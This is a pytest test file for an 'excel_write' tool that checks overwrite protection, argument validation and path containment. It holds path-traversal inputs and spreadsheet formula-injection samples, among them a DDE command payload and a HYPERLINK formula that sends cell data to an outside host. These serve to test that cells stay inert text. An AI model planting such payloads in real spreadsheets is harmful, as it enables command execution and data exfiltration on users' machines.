"""excel_write: checks and overwriting."""

from __future__ import annotations

import os

import pytest
from openpyxl import load_workbook

ROWS = [["Name", "Score"], ["Ada", 95], ["Grace", 99.5]]


def files(excel) -> set[str]:
    return {name for _, _, names in os.walk(excel.project) for name in names}


@pytest.mark.req("E1", "E7")
def test_rows_become_a_workbook(excel):
    reply = excel.call("excel_write", path="out/new.xlsx", rows=ROWS, sheet="Scores")
    assert reply.status == "success"
    assert reply.text == ("Wrote 3 x 2 cells to `out/new.xlsx`, sheet `Scores`, A1:B3.")
    assert reply.data["replaced"] is False
    sheet = load_workbook(os.path.join(excel.project, "out/new.xlsx"))["Scores"]
    assert [[cell.value for cell in row] for row in sheet["A1:B3"]] == ROWS
    back = excel.call("excel_read", path="out/new.xlsx")
    assert back.data["columns"] == ["Name", "Score"]
    assert back.data["rows"] == [["Ada", 95], ["Grace", 99.5]]


@pytest.mark.req("E7")
def test_an_existing_file_is_replaced_only_on_request(excel, chinese):
    excel.bytes("mine.xlsx", b"precious")
    assert excel.failed("excel_write", path="mine.xlsx", rows=ROWS) == "exists"
    assert chinese.call("excel_write", path="mine.xlsx", rows=ROWS).text == (
        "文件已存在: mine.xlsx — 请换一个路径，或征得用户同意后将 `overwrite` 设为 true 以替换"
    )
    with open(excel.path("mine.xlsx"), "rb") as file:
        assert file.read() == b"precious"
    done = excel.call("excel_write", path="mine.xlsx", rows=ROWS, overwrite=True)
    assert done.data["replaced"] is True
    assert "The file that was there is gone." in done.text
    assert files(excel) == {"mine.xlsx"}


FAILING = [
    ({}, "wrong-arguments"),
    ({"path": "a.xlsx"}, "wrong-arguments"),
    ({"path": "", "rows": ROWS}, "wrong-arguments"),
    ({"path": "a.xlsx", "rows": []}, "wrong-arguments"),
    ({"path": "a.xlsx", "rows": "text"}, "wrong-arguments"),
    ({"path": "a.xlsx", "rows": ROWS, "overwrite": "yes"}, "wrong-arguments"),
    ({"path": "../a.xlsx", "rows": ROWS}, "outside"),
    ({"path": "x/../../a.xlsx", "rows": ROWS}, "outside"),
    ({"path": "/tmp/a.xlsx", "rows": ROWS}, "outside"),
    ({"path": "up/a.xlsx", "rows": ROWS}, "outside"),
    ({"path": "a.csv", "rows": ROWS}, "wrong-kind"),
    ({"path": "a.xlsm", "rows": ROWS}, "wrong-kind"),
    ({"path": "folder.xlsx", "rows": ROWS}, "no-file"),
    ({"path": "here.xlsx", "rows": ROWS}, "exists"),
    ({"path": "here.xlsx/a.xlsx", "rows": ROWS}, "not-writable"),
    ({"path": "a.xlsx", "rows": [3]}, "bad-rows"),
    ({"path": "a.xlsx", "rows": [[]]}, "bad-rows"),
    ({"path": "a.xlsx", "rows": [[{"a": 1}]]}, "bad-rows"),
    ({"path": "a.xlsx", "rows": [[float("inf")]]}, "bad-rows"),
    ({"path": "a.xlsx", "rows": [[1]] * 1_001}, "rows-too-large"),
    ({"path": "a.xlsx", "rows": [[1] * 101]}, "rows-too-large"),
    ({"path": "a.xlsx", "rows": [["x" * 32_768]]}, "bad-cell"),
    ({"path": "a.xlsx", "rows": [["a\x07"]]}, "bad-cell"),
    ({"path": "a.xlsx", "rows": [["\ud800"]]}, "bad-cell"),
    ({"path": "a.xlsx", "rows": ROWS, "sheet": "a/b"}, "bad-sheet"),
    ({"path": "a.xlsx", "rows": ROWS, "sheet": "x" * 32}, "bad-sheet"),
]


@pytest.mark.req("E7")
@pytest.mark.parametrize(("words", "failure"), FAILING)
def test_wrong_arguments_change_no_file(excel, chinese, words, failure):
    excel.bytes("here.xlsx", b"mine")
    os.mkdir(excel.path("folder.xlsx"))
    os.symlink("..", excel.path("up"))
    assert excel.failed("excel_write", **words) == failure
    assert chinese.failed("excel_write", **words) == failure
    assert files(excel) == {"here.xlsx"}
    with open(excel.path("here.xlsx"), "rb") as file:
        assert file.read() == b"mine"


@pytest.mark.req("E7")
def test_arguments_are_checked_before_the_disk_is_asked(excel):
    """With both wrong the argument is reported: the file is not accessed."""
    excel.bytes("here.xlsx", b"mine")
    assert excel.failed("excel_write", path="here.xlsx", rows=[[[]]]) == "bad-rows"


def test_a_text_stays_a_text(excel):
    evil = ["=1+1", "=cmd|'/c calc'!A1", "=[1]Sheet1!A1", '=HYPERLINK("http://x/"&A1)',
            "+1", "-1", "@SUM(A1)", "#N/A", "007", "2026-01-31"]  # fmt: skip
    excel.call("excel_write", path="a.xlsx", rows=[evil, [10**15, 10**15 - 1, True]])
    sheet = load_workbook(os.path.join(excel.project, "a.xlsx"))["Sheet1"]
    assert [cell.value for cell in sheet[1]] == evil
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    assert sheet["A1"].quotePrefix
    assert sheet["A2"].value == str(10**15)
    assert sheet["B2"].value == 10**15 - 1
